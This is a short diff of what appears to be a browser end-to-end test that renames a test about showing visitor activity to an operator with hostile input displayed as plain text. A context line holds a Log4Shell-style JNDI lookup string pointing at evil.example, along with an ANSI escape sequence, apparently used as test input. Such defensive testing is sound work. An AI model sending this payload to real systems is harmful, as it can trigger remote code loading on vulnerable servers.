@@ -50,7 +50,7 @@ const hostileTexts = [
   '\u001b[31mred\u001b[0m \u0024{jndi:ldap://evil.example/a}',
 ]
 
-test('The operator sees what past and current visitors did, and hostile texts are shown as text', async ({
+test('The operator sees the steps of past and current visitors, and hostile texts as plain text', async ({
   page,
   console,
   dialog,
